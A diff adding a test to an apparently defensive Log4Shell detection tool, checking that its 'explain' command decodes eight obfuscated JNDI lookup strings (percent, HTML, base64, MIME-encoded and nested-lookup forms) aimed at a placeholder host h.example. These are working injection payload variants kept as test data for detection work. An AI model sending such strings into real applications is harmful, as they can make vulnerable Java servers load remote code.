@@ -91,6 +91,15 @@ class Words(Case):
         self.assertFalse([row for row in leak.splitlines() if len(row) > 80 and "looks up" not in row])
         self.assertIn("one JSON object", self.run_cli("explain", "--help", status=0).stdout.decode())
 
+    def test_explain_undoes_every_layer(self):
+        for layer, text in (("percent", "%24%7Bjndi:ldap://h.example/a%7D"), ("form", "%24{jndi:ldap://h.example/${date:'+'}b}"),
+                            ("backslash", "\\u0024{jndi:ldap://h.example/a}"), ("html", "&#36;{jndi:ldap://h.example/a}"),
+                            ("base64", "JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0="), ("encoded_word", "=?utf-8?B?JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=?="),
+                            ("haproxy", "$#7bjndi:ldap://h.example/a#7d"), ("sql", "SELECT '${jndi${date:'':''}ldap://h.example/a}'")):
+            shown = self.run_cli("explain", text, status=1).stdout.decode()
+            self.assertRegex(shown, rf"\n  1\. {layer} .*h\[\.\]example")
+            self.assertIn("asks JNDI for ldap[:]//h[.]example/", shown)
+
     def test_exit_statuses(self):
         log, clean = self.write("a.log", attack(1)), self.write("clean.log", line())
         for status, args in ((0, ["detect", clean]), (1, ["detect", log]), (3, ["detect", log, self.path("gone")]), (1, ["explain", "${jndi:ldap://h/a}"]),
